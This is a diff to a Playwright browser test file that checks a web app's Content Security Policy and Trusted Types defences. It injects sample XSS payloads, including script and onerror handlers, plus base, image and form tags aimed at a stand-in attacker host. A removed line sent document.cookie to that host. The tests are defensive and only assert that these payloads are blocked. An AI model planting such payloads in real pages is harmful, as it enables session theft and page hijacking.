@@ -5,6 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from playwright.async_api import Route
 
 from tests.browser.conftest import PHONE, Visit, Visits
 from tests.browser.preview import Running
@@ -21,7 +22,7 @@ PAGES = {
     "records-none": ("bob", "/audit?who=nobody&action="),
     "records-unreadable": ("bob", "/audit?effect=perhaps"),
     "record": ("bob", "/audit/records/{0}"),
-    "record-open": ("bob", "/audit/records/{7}"),
+    "record-open": ("bob", "/audit/records/{open}"),
     "not-found": ("alice", "/nowhere"),
     "not-allowed": ("alice", "/audit"),
     "hostile-names": ("hostile", "/audit"),
@@ -31,7 +32,7 @@ PAGES = {
 async def opened(visit: Visits, preview: Running, name: str, **options: object) -> Visit:
     person, path = PAGES[name]
     one = await visit(person, allowed=(MISSING,), **options)  # type: ignore[arg-type]
-    page = await one.go(path.format(*preview.requests))
+    page = await one.go(path.format(*preview.requests, open=preview.requests[-1]))
     if name == "studio":
         await page.locator("#models .chip").first.wait_for()
     return one
@@ -68,31 +69,54 @@ async def test_everything_comes_from_our_own_server(visit, preview):
     assert [url for url in asked if not url.startswith((preview.url, "blob:", "data:"))] == []
 
 
-async def test_the_policy_that_every_page_travels_with_forbids_inline_script(visit, preview):
-    """Not the header's text but its effect: what an injected element could do, it can't."""
-    one = await visit("alice", allowed=("policy:", "Content Security Policy", "Trusted"))
+async def test_script_that_somebody_smuggled_into_a_page_does_not_run(visit):
+    """Not the header's text but its effect (CSP Level 3): the page arrives with foreign markup in it."""
+    one = await visit("alice", allowed=("policy:", "Content Security Policy", "ERR_INVALID_URL"))
+
+    async def smuggle(route: Route) -> None:
+        answer = await route.fetch()
+        markup = (
+            "<script>document.title='pwned'</script><img src=data:x onerror=\"document.title='pwned'\">"
+            "<p id=painted style='color: rgb(255, 0, 0)'>x</p><style>#painted { color: rgb(255, 0, 0) }</style>"
+            "<img src=https://attacker.example/x><base href=https://attacker.example/>"
+            "<form action=https://attacker.example/ id=foreign></form>"
+        )
+        await route.fulfill(response=answer, body=(await answer.text()).replace("<main", markup + "<main"))
+
+    await one.page.route("**/studio", smuggle)
     page = await one.go("/studio")
-    await page.evaluate(
-        """() => {
-          const script = document.createElement('script');
-          try { script.text = "document.title = 'pwned'"; } catch { /* Trusted Types */ }
-          document.body.append(script);
-          const markup = '<img src=x onerror="document.title=`pwned`">';
-          try { document.body.insertAdjacentHTML('beforeend', markup); } catch { /* Trusted Types */ }
-          const image = document.createElement('img');
-          image.src = 'https://attacker.example/?' + document.cookie;
-          document.body.append(image);
-        }"""
-    )
     await page.wait_for_timeout(200)
-    assert await page.title() != "pwned"
-    assert any(v.startswith("policy: img-src") for v in await page.evaluate("window.cspViolations"))
+    assert await page.title() == "Studio · Imprimatur"
+    assert page.url == f"{one.url}/studio"
+    colour = await page.evaluate("getComputedStyle(document.querySelector('#painted')).color")
+    assert colour != "rgb(255, 0, 0)"
+    violated = {text.split()[1] for text in await page.evaluate("window.cspViolations")}
+    assert violated >= {"script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem", "img-src", "base-uri"}
+    await page.evaluate("document.querySelector('#foreign').requestSubmit()")
+    await page.wait_for_timeout(200)
+    assert any("form-action" in text for text in one.complaints)
+
+
+async def test_our_own_scripts_could_not_turn_text_into_markup_if_they_tried(visit):
+    """Trusted Types: the sinks of DOM XSS refuse strings."""
+    one = await visit("alice", allowed=("policy:", "Content Security", "requires 'Trusted"))
+    page = await one.go("/studio")
+    sinks = (
+        "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
+        "document.body.innerHTML = '<p>x</p>'",
+        "document.createElement('script').text = '1'",
+        "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
+        "trustedTypes.createPolicy('ours', {})",
+    )
+    for sink in sinks:
+        outcome = await page.evaluate(f"() => {{ try {{ {sink}; return 'done'; }} catch (e) {{ return e.name; }} }}")
+        assert outcome == "TypeError", sink
 
 
 async def test_a_person_can_sign_out_from_every_page(visit, preview):
-    one = await visit("alice")
+    one = await visit("leaver")
     page = await one.go("/keys")
-    await page.get_by_role("button", name="Alice Meyer").click()
+    await page.get_by_role("button", name="Lea Verne").click()
     await page.get_by_role("button", name="Sign out").click()
     await page.wait_for_url("**/signed-out")
     assert await page.get_by_text("You are signed out").is_visible()
